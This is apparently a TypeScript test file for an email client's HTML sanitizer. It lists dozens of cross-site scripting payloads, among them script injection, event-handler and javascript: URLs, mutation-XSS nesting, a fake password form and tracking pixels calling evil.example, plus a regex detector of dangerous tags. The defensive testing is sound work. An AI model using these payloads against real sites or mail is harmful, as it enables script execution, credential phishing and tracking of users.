import { describe, expect, it } from 'vitest'
import { safeHtml } from '../../../src/channels/email/safe-html.ts'

const attacks = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img src="https://evil.example/pixel.gif" onload="steal()">',
  '<img/src="x"/onerror="steal()">',
  '<img src="javascript:steal()">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=">',
  '<img srcset="https://evil.example/a 1x">',
  '<svg onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()>',
  '<a href="javascript:steal()">x</a>',
  '<a href="  JaVaScRiPt:steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="&#106;avascript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:steal()">x</button>',
  '<input autofocus onfocus=steal()>',
  '<body onload=steal() background="https://evil.example/b.png">',
  '<table background="https://evil.example/b.png"><tr><td background="https://evil.example/b.png">x</td></tr></table>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example/y) }</style>',
  '<p style="background-image:url(https://evil.example/x)">x</p>',
  '<p style="background:url(\'javascript:steal()\')">x</p>',
  '<p style="width:expression(steal())">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="color:red;behavior:url(#steal)">x</p>',
  '<p style="color:url(https://evil.example)">x</p>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<video src="https://evil.example/x.mp4" autoplay onplay=steal()></video>',
  '<audio src="https://evil.example/x.mp3" onerror=steal()></audio>',
  '<details open ontoggle=steal()>x</details>',
  '<marquee onstart=steal()>x</marquee>',
  '<template><script>steal()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<textarea><img src=x onerror=steal()></textarea>',
  '<title><img src=x onerror=steal()></title>',
  '<xmp><img src=x onerror=steal()></xmp>',
  '<!--><img src=x onerror=steal()>-->',
  '<![CDATA[<img src=x onerror=steal()>]]>',
  '<p id="app" class="login-dialog" name="cookie">x</p>',
  '<span class="button-primary">x</span>',
  '<p title="&quot;><img src=x onerror=steal()>">x</p>',
  '<a href="https://ok.example" onclick="steal()" target="_self" ping="https://evil.example">x</a>',
]

/** Nothing that a browser would run, fetch, submit or lay over our page. Quoted attribute values are looked at apart from the tags. */
function dangersIn(html: string): string[] {
  const found: string[] = []
  for (const [tag = '', name = ''] of html.matchAll(/<\/?([a-z][\w-]*)[^>]*>/gi)) {
    if (
      /^(?:script|style|svg|math|iframe|object|embed|form|input|button|textarea|select|base|meta|link|video|audio|template|details|marquee|noscript|body|img)$/i.test(
        name,
      )
    )
      found.push(tag)
    const bare = tag.replace(/"[^"]*"/g, '""')
    if (/\s(?:on\w+|srcset|background|action|formaction|ping|id|name|srcdoc)\s*=/i.test(bare)) found.push(tag)
    if (/(?:href|src)="\s*(?:javascript|vbscript|data|\/\/)/i.test(tag)) found.push(tag)
    if (/style="[^"]*(?:url|expression|position|binding|behavior|import)/i.test(tag)) found.push(tag)
    if (/class="(?!image-blocked")/.test(tag)) found.push(tag)
  }
  return found
}

describe('the HTML of a mail does nothing in our page', () => {
  it.each(attacks)('%s', (attack) => {
    for (const html of [
      attack,
      `<p>before</p>${attack}<p>after</p>`,
      attack.slice(0, -1),
      `<div><table><tr><td>${attack}`,
    ]) {
      expect(dangersIn(safeHtml(html).html)).toEqual([])
    }
  })

  it('and the check above does see danger', () => {
    expect(attacks.filter((attack) => dangersIn(attack).length === 0).length).toBeLessThan(6)
  })
})

describe('what people write stays', () => {
  it('with its words, lists, tables and plain looks', () => {
    const html =
      '<p dir="rtl" style="color:#ff0000;text-align:center">سلام</p><ul><li><b>one</b></li></ul><table><tr><td colspan="2">x</td></tr></table>'
    const safe = safeHtml(html).html
    expect(safe).toContain('<p dir="rtl" style="color:#ff0000;text-align:center">سلام</p>')
    expect(safe).toContain('<li><b>one</b></li>')
    expect(safe).toContain('<td colspan="2">x</td>')
  })

  it('and links open elsewhere, telling nothing', () => {
    expect(safeHtml('<a href="https://ok.example/a?b=1&amp;c=2">x</a>').html).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })
})

describe('images', () => {
  it('from elsewhere are left out, marked and counted', () => {
    const { html, blockedImages } = safeHtml(
      '<p>a<img src="https://evil.example/p.gif" alt="a cat">b<img src="http://evil.example/q.gif"></p>',
    )
    expect(blockedImages).toBe(2)
    expect(html).toBe('<p>a<span class="image-blocked">a cat</span>b<span class="image-blocked"></span></p>')
  })

  it('from elsewhere come through the proxy where there is one', () => {
    const proxyImage = (url: string) => `/image-proxy?u=${encodeURIComponent(url)}`
    const safe = safeHtml('<img src="https://far.example/p.gif" width="10">', { proxyImage })
    expect(safe).toEqual({
      html: '<img src="/image-proxy?u=https%3A%2F%2Ffar.example%2Fp.gif" width="10" />',
      blockedImages: 0,
    })
  })

  it('that came with the mail are shown from our own server', () => {
    const inlineImage = (id: string) => (id === 'cat@1' ? '/blobs/1' : null)
    expect(safeHtml('<img src="cid:cat@1">', { inlineImage }).html).toBe('<img src="/blobs/1" />')
    expect(safeHtml('<img src="cid:dog@1">', { inlineImage }).blockedImages).toBe(1)
  })

  it('that are small and embedded are shown', () => {
    expect(safeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toEqual({
      html: '<img src="data:image/png;base64,iVBORw0KGgo=" />',
      blockedImages: 0,
    })
  })
})

it('reads hostile HTML to its end', () => {
  for (const piece of [
    '<',
    '<div>',
    '<a href="',
    '<p style="color:red">',
    '<!--',
    '<table><tr><td>',
    '<img src=x>',
    '&',
  ]) {
    expect(dangersIn(safeHtml(piece.repeat(20_000)).html)).toEqual([])
  }
})
